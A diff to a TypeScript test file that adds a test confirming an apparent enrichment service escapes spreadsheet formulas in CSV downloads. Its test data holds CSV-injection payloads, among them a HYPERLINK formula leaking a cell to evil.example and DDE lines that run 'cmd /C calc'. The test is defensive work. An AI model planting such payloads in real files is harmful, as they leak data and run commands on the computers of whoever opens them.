@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import Papa from 'papaparse';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
@@ -211,6 +212,42 @@ describe('results, delete, bulk and stats', () => {
     expect(lines[0]).toContain('counterpart_number');
     expect(lines[0]).toContain('started_at');
     await expect(api.get(`/v1/jobs/${jobId}/output?format=xml`)).rejects.toMatchObject({ status: 400 });
+  });
+
+  it('writes a CSV download no spreadsheet evaluates: formula cells get a leading apostrophe, numbers and phones stay', async () => {
+    const { api } = await stack.tenant();
+    const payloads = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+      "+cmd|' /C calc'!A0",
+      '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      "-2+3+cmd|' /C calc'!A0",
+      '\t=1+1',
+      '-12.5',
+    ];
+    const csvFile = [
+      'Full Name,Email,Phone,Title,Company',
+      ...payloads.map((p, i) => Papa.unparse([[`Person ${i}`, `p${i}@example.com`, '+1 312 555 0100', p, 'Acme']], { header: false, quotes: true })),
+    ].join('\n');
+    const path = await stack.writeScratch('formulas.csv', `${csvFile}\n`);
+    const { jobId } = await uploadFile(api, path, { schema: 'contact' });
+    expect((await waitForJob(api, jobId)).status).toBe('succeeded');
+    const { url } = await api.get<{ url: string }>(`/v1/jobs/${jobId}/output?format=csv`);
+    const rows = Papa.parse<Record<string, string>>((await (await fetch(url)).text()).trimEnd(), { header: true }).data;
+    expect(rows).toHaveLength(payloads.length);
+    const titleOf = (i: number) => rows.find((r) => r.email === `p${i}@example.com`)?.title;
+    // whatever Enrich made of the tab, no title reaches the spreadsheet as a formula
+    for (const [i, payload] of payloads.entries()) {
+      const title = titleOf(i)!;
+      if (payload === '-12.5') expect(title).toBe('-12.5');
+      else {
+        expect(title.startsWith("'"), JSON.stringify(title)).toBe(true);
+        expect(title.slice(1).trim()).toBe(payload.trim());
+      }
+    }
+    expect(new Set(rows.map((r) => r.phone))).toEqual(new Set(['+13125550100']));
+    // the NDJSON download keeps the values as they are
+    const records = (await downloadRecords(api, jobId)).map((l) => JSON.parse(l) as { title: string });
+    expect(records.map((r) => r.title.trim()).sort()).toEqual(payloads.map((p) => p.trim()).sort());
   });
 
   it('deletes a finished job and its outputs, answers 404 after', async () => {
